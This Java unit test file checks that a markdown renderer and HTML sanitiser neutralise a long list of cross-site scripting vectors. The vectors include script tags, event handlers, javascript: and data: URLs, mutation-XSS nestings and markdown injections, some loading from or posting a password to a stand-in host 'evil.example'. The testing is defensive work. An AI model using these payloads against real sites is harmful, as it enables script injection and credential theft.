package dev.stagebill.markdown;

import static org.assertj.core.api.Assertions.assertThat;

import com.tngtech.archunit.core.importer.ClassFileImporter;
import com.tngtech.archunit.lang.syntax.ArchRuleDefinition;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What authors of attacks write. Judged by rules of its own, not by the sanitiser's tables. */
final class HostileHtmlTest {
    static final List<String> VECTORS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script\u0000>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<img src=x onerror\n=\nalert(1)>",
            "<img/src=x/onerror=alert(1)>",
            "<img src=\"x\" onerror=\"alert(1)\" / >",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
            "<img src=javascript:alert(1)>",
            "<img srcset=\"https://evil.example/a 1x, javascript:alert(1) 2x\">",
            "<img src=https://evil.example/pixel.gif>",
            "<img src=//evil.example/pixel.gif>",
            "<img src='\\\\evil.example\\pixel.gif'>",
            "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
            "<img src=\"data:text/html,<script>alert(1)</script>\">",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\"java\nscript:alert(1)\">x</a>",
            "<a href=\" &#1; javascript:alert(1)\">x</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
            "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
            "<a href=\"javascript&colon;alert(1)\">x</a>",
            "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
            "<a href=\"java&NewLine;script:alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
            "<a href=\"blob:https://evil.example/1\">x</a>",
            "<a href=\"filesystem:https://evil.example/1\">x</a>",
            "<a href=\"view-source:https://evil.example/\">x</a>",
            "<a href=\"\u2028javascript:alert(1)\">x</a>",
            "<a href=\"https://x\" ping=\"https://evil.example\">x</a>",
            "<a href=\"https://x\" style=\"position:fixed;inset:0\">x</a>",
            "<a xlink:href=\"javascript:alert(1)\">x</a>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><set attributeName=onmouseover to=alert(1)></svg>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"></use></svg>",
            "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<svg><title><style><img title=\"</style><img src onerror=alert(1)>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><img src=x onerror=alert(1)></template>",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
            "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
            "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
            "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
            "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
            "<plaintext><img src=x onerror=alert(1)>",
            "<select><style><img src=x onerror=alert(1)></style></select>",
            "<table><td background=\"javascript:alert(1)\">x</td></table>",
            "<body onload=alert(1)>x",
            "<html onmouseover=alert(1)>x",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=javascript:alert(1)>",
            "<applet code=x></applet>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
            "<base href=https://evil.example/>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<style>body{display:none}</style>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<div style=\"background:url(https://evil.example)\">x</div>",
            "<form action=https://evil.example><input name=password><button>go</button></form>",
            "<input type=image src=x onerror=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<isindex type=image src=1 onerror=alert(1)>",
            "<video src=x onerror=alert(1)></video>",
            "<audio controls><source src=x onerror=alert(1)></audio>",
            "<details open ontoggle=alert(1)><summary>x</summary></details>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<div onpointerenter=alert(1)>x</div>",
            "<x-element onclick=alert(1)>x</x-element>",
            "<img name=cookie><form name=body></form><a name=getElementById></a>",
            "<a id=__proto__>x</a><b id=stagebillSearch>x</b><i id=ui--dialog>x</i>",
            "<p id=a></p><p id=a></p>",
            "<input type=radio id=search-field name=q>",
            "<label for=search-field>x</label>",
            "<img alt=\"`><img src=xx:x onerror=alert(1)//\">",
            "<!--><img src=x onerror=alert(1)>-->",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "<div markdown>\n<script>alert(1)</script>\n</div>",
            "<details markdown onclick=\"alert(1)\">\n[x](javascript:alert(1))\n</details>",
            "[x](javascript:alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "[x](&#x6A;avascript:alert(1))",
            "[x]: javascript:alert(1)\n\n[x]",
            "<javascript:alert(1)>",
            "![x](javascript:alert(1))",
            "![x](data:text/html;base64,PHNjcmlwdD4=)",
            "![x\" onerror=\"alert(1)](a.png)",
            "![x](a.png\"onerror=\"alert(1))",
            "[x](a.md \"t\\\" onclick=\\\"alert(1)\")",
            "[x](a.md){onclick=alert(1) style=\"x\" href=\"javascript:alert(1)\" target=evil}",
            "# x {#a\"><script>alert(1)</script>}",
            "# x {: #\"onmouseover=alert(1) .\"x }",
            "```\"><script>alert(1)</script>\nx\n```",
            "```java title=\"</figcaption><script>alert(1)</script>\"\nx\n```",
            "```java hl_lines=\"1\\\"><script>alert(1)</script>\"\nx\n```",
            "!!! note\" \"<img src=x onerror=alert(1)>\"\n    x",
            "!!! note \"<script>alert(1)</script>\"\n    x",
            "=== \"<img src=x onerror=alert(1)>\"\n    x",
            "```mermaid\n<img src=x onerror=alert(1)>\n```",
            "*[HTML]: \"><script>alert(1)</script>\n\nHTML",
            "x[^\"><script>]\n\n[^\"><script>]: alert(1)",
            "https://x.org/\"onmouseover=\"alert(1)",
            ":material-\"><script>alert(1)</script>:",
            "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
            "\u0000<script>alert(1)</script>");

    private final MarkdownRenderer renderer = new MarkdownRenderer();

    static List<String> vectors() {
        return HostileTexts.all();
    }

    @ParameterizedTest
    @MethodSource("vectors")
    void nothingOfItRunsOrLoads(String vector) {
        judge(renderer.render(vector, LinkResolver.AS_WRITTEN).html().toString());
        judge(renderer.render("text\n\n" + vector + "\n\n<b>more</b>", LinkResolver.AS_WRITTEN)
                .html()
                .toString());
        judge(renderer.fragment(vector).toString());
        judge(Sanitizer.clean(vector).toString());
        judgeFile(Sanitizer.cleanSvg(vector));
        judgeFile(Sanitizer.cleanSvg("<svg xmlns=\"http://www.w3.org/2000/svg\">" + vector + "</svg>"));
        judge(Sanitizer.clean("<svg><g>" + vector + "</g></svg><math><mi>" + vector)
                .toString());
        judge(Sanitizer.clean("<table><tr><td>" + vector + "<p>" + vector).toString());
    }

    /** The writer's output needs no sanitiser: the sanitiser finds nothing to change in it. */
    @ParameterizedTest
    @MethodSource("vectors")
    void whatIsSafeByConstructionPassesTheSanitiserUnchanged(String vector) {
        String html = renderer.render(vector, LinkResolver.AS_WRITTEN).html().toString();
        assertThat(Markup.tree(Sanitizer.clean(html).toString())).isEqualTo(Markup.tree(html));
    }

    /** A second parsing, as a browser does it, sees the same tree: nothing hides in a mutation. */
    @ParameterizedTest
    @MethodSource("vectors")
    void cleaningTwiceChangesNothing(String vector) {
        String once = Sanitizer.clean(vector).toString();
        assertThat(Markup.tree(Sanitizer.clean(once).toString())).isEqualTo(Markup.tree(once));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>i<code id=\"a\"><marquee><p>x</p></marquee>y</code></p>",
                "<a href=\"a\">x<MARQUEE><a href=\"b\">y</a></MARQUEE>z</a>",
                "<p>a<button title=\"<button>\">b<p>c</p></button>d</p>",
                "<table data-icon=\"material/check\"><tr data-icon=\"material/check\"><td>x</table>"
            })
    void whatIsTakenAwayLeavesNothingThatIsReadOtherwise(String html) {
        String once = Sanitizer.clean(html).toString();

        assertThat(Sanitizer.clean(once)).hasToString(once);
    }

    @Test
    void aPlaceholderBesideAButtonIsStillShown() {
        assertThat(Sanitizer.clean("<Button>Go</Button> <host>:80")).hasToString("Go &lt;host&gt;:80");
    }

    @Test
    void everyDroppedDangerIsRemarkedWithItsLine() {
        RenderedMarkdown page = renderer.render(
                "a\n\n<script>x</script>\n\n[x](javascript:x)\n\n<p>\n<b onclick=x>y</b>\n</p>\n",
                LinkResolver.AS_WRITTEN);
        assertThat(page.remarks())
                .extracting(remark -> remark.line() + " " + remark.code())
                .containsExactlyInAnyOrder("3 docs.dropped-html", "5 docs.dropped-html", "8 docs.dropped-html");
    }

    @Test
    void linksToOtherSitesTellThemNothing() {
        assertThat(Sanitizer.clean("<a href='https://x.org' target='_top' rel='opener'>x</a>")
                        .toString())
                .isEqualTo("<a href=\"https://x.org\" rel=\"noopener noreferrer\" target=\"_blank\">x</a>");
    }

    @Test
    void embeddedPagesBecomeLinks() {
        assertThat(Sanitizer.clean("<iframe src='https://x.org/v' title='Film'></iframe>")
                        .toString())
                .contains("class=\"external-embed\"", "href=\"https://x.org/v\"", ">Film</a>");
    }

    @Test
    void anIdOfAHeadingCannotBeTaken() {
        RenderedMarkdown page = renderer.render("<p id=\"setup\">x</p>\n\n# Setup\n", LinkResolver.AS_WRITTEN);
        assertThat(page.anchors()).containsExactly("setup");
        assertThat(page.html().toString()).contains("<p>x</p>", "<h1 id=\"setup\">");
    }

    @Test
    void onlyTheSanitiserAndTheHighlighterMakeSafeHtml() {
        ArchRuleDefinition.noClasses()
                .that()
                .doNotBelongToAnyOf(SafeHtml.class, Sanitizer.class)
                .should()
                .callConstructor(SafeHtml.class, String.class)
                .check(new ClassFileImporter().importPath(Path.of("target", "classes")));
    }

    @Test
    void safeAddressesAreTold() {
        assertThat(List.of("https://a", "mailto:a@b", "a/b.md", "#x", "?q", "/a", "tel:1", "", "a/b:c"))
                .allMatch(Sanitizer::isSafeUrl);
        assertThat(List.of(
                        "javascript:a",
                        "JAVASCRIPT:a",
                        " javascript:a",
                        "java\nscript:a",
                        "\u0001javascript:a",
                        "data:a",
                        "vbscript:a",
                        "file:///etc",
                        ":a"))
                .noneMatch(Sanitizer::isSafeUrl);
    }

    private static void judgeFile(String svg) {
        assertThat(HtmlJudge.complaintsOfFile(svg)).as(svg).isEmpty();
    }

    private static void judge(String html) {
        assertThat(HtmlJudge.complaints(html)).as(html).isEmpty();
    }
}
